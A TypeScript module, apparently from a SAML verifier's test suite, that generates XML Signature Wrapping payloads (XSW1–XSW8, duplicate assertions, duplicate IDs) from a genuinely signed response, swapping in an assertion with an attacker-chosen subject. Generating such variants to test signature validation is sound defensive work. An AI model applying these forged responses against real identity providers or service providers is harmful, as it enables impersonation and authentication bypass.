import { assertionOf, type SamlParts } from './saml-provider.js'

/**
 * Signature wrapping, as in "On Breaking SAML: Be Whoever You Want to Be" (Somorovsky and others, 2012): the signed
 * element stays somewhere in the document, whole, and another one stands where a careless reader looks.
 */
export interface Signed {
  /** A response whose own signature is good. */
  readonly response: string
  /** A response whose assertion is signed. */
  readonly answer: string
  readonly parts: SamlParts
}

const assertionIn = (xml: string) => /<saml:Assertion[\s\S]*<\/saml:Assertion>/.exec(xml)?.[0] ?? ''
const signatureIn = (xml: string) => /<(?:ds:)?Signature[\s\S]*<\/(?:ds:)?Signature>/.exec(xml)?.[0] ?? ''
const into = (xml: string, what: string) => xml.replace(/<\/((?:ds:)?Signature)>$/, `${what}</$1>`)

export function wrapped({ response, answer, parts }: Signed, evilSubject: string): Record<string, string> {
  const evil = assertionOf({ ...parts, id: '_evil', subject: evilSubject })
  const good = assertionIn(answer)
  const signature = signatureIn(good)
  const bareGood = good.replace(signature, '')
  const around = (inside: string) => answer.replace(good, inside)
  const evilHolding = (what: string) => evil.replace('</saml:Issuer>', `</saml:Issuer>${what}`)

  const outer = signatureIn(response)
  const bareResponse = response.replace(outer, '').replace(/<\?xml[^>]*\?>/, '')
  const evilResponse = bareResponse.replace(assertionIn(bareResponse), evil).replace(parts.responseId, '_evil_response')
  const evilWith = (what: string) => evilResponse.replace('</saml:Issuer>', `</saml:Issuer>${what}`)

  return {
    'XSW1: the signed response inside its own signature': evilWith(into(outer, bareResponse)),
    'XSW2: the signed response beside its signature': evilWith(bareResponse + outer),
    'XSW3: another assertion before the signed one': around(evil + good),
    'XSW4: the signed assertion inside another': around(evilHolding(good)),
    'XSW5: the signature in another assertion, the signed one after it': around(evilHolding(signature) + bareGood),
    'XSW6: the signed assertion in a signature of another': around(evilHolding(into(signature, bareGood))),
    'XSW7: another assertion in extensions': around(`<samlp:Extensions>${evil}</samlp:Extensions>${good}`),
    'XSW8: the signed assertion in an object of the signature': around(
      evilHolding(into(signature, `<Object xmlns="http://www.w3.org/2000/09/xmldsig#">${bareGood}</Object>`)),
    ),
    'two assertions': around(good + evil),
    'two elements of one id': around(good).replace(
      '</samlp:Response>',
      `${evil.replace('_evil', parts.id)}</samlp:Response>`,
    ),
  }
}
